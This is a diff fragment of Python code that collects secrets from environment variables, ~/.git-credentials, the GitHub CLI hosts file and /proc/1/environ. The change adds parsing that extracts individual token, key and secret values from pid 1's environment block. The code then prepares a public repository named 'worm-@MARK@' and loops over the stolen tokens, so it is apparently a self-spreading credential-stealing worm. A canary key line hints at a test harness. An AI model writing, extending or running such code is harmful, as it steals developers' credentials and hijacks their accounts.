@@ -308,9 +308,16 @@ print("PH CANARY_API_KEY", os.environ.get("CANARY_API_KEY", ""))
 toks = {k: v for k, v in os.environ.items() if any(w in k.upper() for w in ("TOKEN", "KEY", "SECRET"))}
 for f in ("~/.git-credentials", "~/.config/gh/hosts.yml", "/proc/1/environ"):
     try:
-        toks["file:" + f] = open(os.path.expanduser(f)).read(4096)
+        data = open(os.path.expanduser(f)).read(4096)
     except OSError:
-        pass
+        continue
+    if "\0" in data:  # an environment block (where pid 1 is readable: every token-looking entry)
+        for kv in data.split("\0"):
+            k, _, v = kv.partition("=")
+            if v and any(w in k.upper() for w in ("TOKEN", "KEY", "SECRET")):
+                toks[f"file:{f}:{k}"] = v
+    else:
+        toks["file:" + f] = data
 res = {}
 repo = json.dumps({"name": "worm-@MARK@", "private": False}).encode()
 for k, t in toks.items():
